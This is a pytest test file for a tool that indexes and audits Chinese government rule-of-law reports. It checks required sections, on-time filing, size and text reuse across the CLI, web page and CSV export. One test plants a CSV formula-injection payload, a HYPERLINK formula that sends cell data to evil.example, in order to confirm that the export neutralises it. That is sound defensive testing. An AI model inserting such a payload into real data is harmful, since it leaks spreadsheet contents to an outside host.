"""The report audit on the seed index: parts, timeliness, size, figures, reuse; CLI, page, CSV."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest

from indexer.build import build_index
from indexer.cli import main
from indexer.compare.audit import audit, parts_of, timeliness
from indexer.compare.audit_select import AuditFilter, select
from indexer.ingest.reports import parse_report
from indexer.model import SECTIONS, ReportMeta
from indexer.query import open_index
from webui import create_app
from webui.csv_safe import neutralise

CORPUS = Path(__file__).parent.parent / "corpus"
OFFICE_22, OFFICE_23 = "区政府办公室-2022", "东丽区-区政府办公室-2023"


@pytest.fixture
def rows(seed_index):
    return {r.report.id: r for r in audit(seed_index)}


def test_office_2022_lacks_the_leadership_part_and_2023_has_all_five(rows):
    assert rows[OFFICE_22].missing == ["leadership"]
    assert rows[OFFICE_23].missing == []
    assert rows[OFFICE_23].parts["leadership"].how == "heading"


def test_a_plan_to_fulfil_the_duties_is_not_a_report_on_them():
    text = (
        "区某局2022年法治政府建设情况报告\n一、2022年主要工作成效\n我局开展普法活动3次。\n"
        "二、2023年工作计划\n认真落实党政主要负责人履行推进法治建设第一责任人职责。\n"
    )
    assert parts_of(parse_report(text, "x.txt"))["leadership"] is None
    reported = text.replace("我局开展普法活动3次。", "局主要负责人履行第一责任人职责，带头学法。")
    found = parts_of(parse_report(reported, "x.txt"))["leadership"]
    assert found is not None and found.how == "text"


def test_a_part_headed_other_is_found_by_its_heading():
    text = (
        "某镇2023年法治政府建设年度报告\n一、主要举措和成效\n做了。\n五、其他需要报告的情况\n无。\n"
    )
    found = parts_of(parse_report(text, "x.txt"))["other"]
    assert found is not None and found.how == "heading"


@pytest.mark.parametrize(
    ("year", "date", "expected"),
    [
        (2023, "2024-01-03", "yes"),
        (2023, "2024-03-31", "yes"),
        (2023, "2024-04-01", "late"),
        (2023, None, "unknown"),
        (None, "2024-01-03", "unknown"),
    ],
)
def test_on_time_is_before_1_april_of_the_next_year(year, date, expected):
    meta = ReportMeta("r", "r.txt", "某局", None, year, date, None)
    assert timeliness(meta) == expected


def test_seed_dates_known_and_unknown(rows):
    assert rows[OFFICE_23].on_time == "yes" and rows[OFFICE_23].due == "2024-03-31"
    assert rows[OFFICE_22].on_time == "unknown"  # its text has no date line


def test_size_figures_and_reuse_are_counted(rows, seed_index):
    row = rows[OFFICE_23]
    assert row.previous == OFFICE_22
    assert rows[OFFICE_22].previous is None
    assert 2000 < row.chars < 4000 and row.figures > 0
    assert 0 < row.reuse["previous_year"] < 0.5  # some sentences carried over from 2022
    assert all(0 <= v <= 1 for r in rows.values() for v in r.reuse.values())


def test_select_filters_and_sorts(rows):
    lacking = select(rows.values(), AuditFilter(missing="leadership"))
    assert [r.report.id for r in lacking] == [OFFICE_22]
    by_figures = select(rows.values(), AuditFilter(), "-figures")
    assert [r.figures for r in by_figures] == sorted(
        (r.figures for r in rows.values()), reverse=True
    )
    assert {r.report.year for r in select(rows.values(), AuditFilter(year=2023))} == {2023}
    with pytest.raises(ValueError):
        select(rows.values(), AuditFilter(), "nonsense")


def test_cli_audit_json(runner, built_index):
    result = runner.invoke(main, ["audit", "--json", "--index", str(built_index)])
    assert result.exit_code == 0, result.output
    data = {r["report"]: r for r in json.loads(result.output)}
    assert data[OFFICE_22]["parts"]["leadership"] is None
    assert data[OFFICE_22]["on_time"] == "unknown"
    assert data[OFFICE_23]["parts_present"] == 5
    only = runner.invoke(main, ["audit", "--missing", "leadership", "--index", str(built_index)])
    assert OFFICE_22 in only.output and OFFICE_23 not in only.output
    bad = runner.invoke(main, ["audit", "--sort", "x", "--index", str(built_index)])
    assert bad.exit_code != 0 and "Hint" in bad.output


def test_audit_page_links_report_and_year_comparison(client):
    html = client.get("/audit").get_data(as_text=True)
    assert 'data-part="leadership"' in html
    assert "/compare/years?a=" in html and "与上年对比" in html
    assert client.get("/audit?missing=nonsense").status_code == 400
    assert client.get("/audit?sort=nonsense").status_code == 400
    page = client.get("/audit?missing=leadership").get_data(as_text=True)
    assert page.count('<tr id="r-') == 1


def test_audit_csv_matches_the_filters(client):
    r = client.get("/audit.csv?year=2023&sort=-chars")
    assert r.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(r.get_data(as_text=True).lstrip("\ufeff"))))
    assert {row["year"] for row in rows} == {"2023"}
    assert [int(row["chars"]) for row in rows] == sorted(
        (int(x["chars"]) for x in rows), reverse=True
    )
    assert set(SECTIONS) <= {k.removeprefix("part_") for k in rows[0]}


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_csv_cells_that_look_like_formulas_are_neutralised(value):
    assert neutralise(value) == "'" + value


def test_audit_csv_neutralises_a_hostile_unit_name(tmp_path):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    shutil.copy(CORPUS / "区协同办-2022.txt", corpus / "a.txt")
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
    (corpus / "reports.toml").write_text(f'["a.txt"]\nunit = {json.dumps(hostile)}\n', "utf-8")
    build_index(corpus, tmp_path / "idx")
    client = create_app({"TESTING": True, "INDEX_DIR": str(tmp_path / "idx")}).test_client()
    text = client.get("/audit.csv").get_data(as_text=True)
    row = next(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert row["unit"] == "'" + hostile
    with open_index(tmp_path / "idx") as idx:  # JSON stays exact
        assert audit(idx)[0].to_dict()["unit"] == hostile


def test_an_index_without_audit_rows_computes_the_same_rows(tmp_path, built_index):
    from indexer.store import catalog

    copy = tmp_path / "idx"
    shutil.copytree(built_index, copy)
    stored = {r.report.id: r.to_dict() for r in audit_of(built_index)}
    shutil.rmtree(catalog.current_generation(copy) / "audit")  # the build-time shards
    with open_index(copy) as idx:
        assert idx.audit_rows() is None
    assert {r.report.id: r.to_dict() for r in audit_of(copy)} == stored


def test_an_index_with_audit_json_of_before_reads_it(tmp_path, built_index):
    """A generation built before the shards holds one ``audit.json``: still read."""
    from indexer.store import catalog

    copy = tmp_path / "idx"
    shutil.copytree(built_index, copy)
    stored = {r.report.id: r.to_dict() for r in audit_of(built_index)}
    gen = catalog.current_generation(copy)
    with open_index(copy) as idx:
        rows = idx.audit_rows()
    shutil.rmtree(gen / "audit")
    catalog.write_json(gen / "audit.json", rows)
    with open_index(copy) as idx:
        assert idx.audit_rows() == rows
    assert {r.report.id: r.to_dict() for r in audit_of(copy)} == stored


def audit_of(index_dir):
    with open_index(index_dir) as idx:
        assert idx.audit_rows() is not None or not (idx.gen / "audit").exists()
        return audit(idx)


def test_a_web_page_publication_date_decides_on_time(tmp_path):
    """PubDate from the page (no date line in the text) is the date the audit checks."""
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    body = "".join(
        f"<p>{line}</p>"
        for line in (CORPUS / "区协同办-2022.txt").read_text("utf-8").splitlines()
        if line.strip()
    )
    for name, date in (("late.html", "2023-04-15"), ("early.html", "2023-02-01")):
        page = (
            '<html><head><meta charset="utf-8"><meta name="PubDate" content="'
            + date
            + '"></head><body><div class="TRS_Editor">'
            + body.replace("区协同办", "区协同办" if name == "late.html" else "区合作办")
            + "</div></body></html>"
        )
        (corpus / name).write_text(page, "utf-8")
    build_index(corpus, tmp_path / "idx")
    with open_index(tmp_path / "idx") as idx:
        rows = {r.report.file: r for r in audit(idx)}
    assert rows["late.html"].report.date == "2023-04-15"
    assert rows["late.html"].on_time == "late"
    assert rows["early.html"].on_time == "yes"
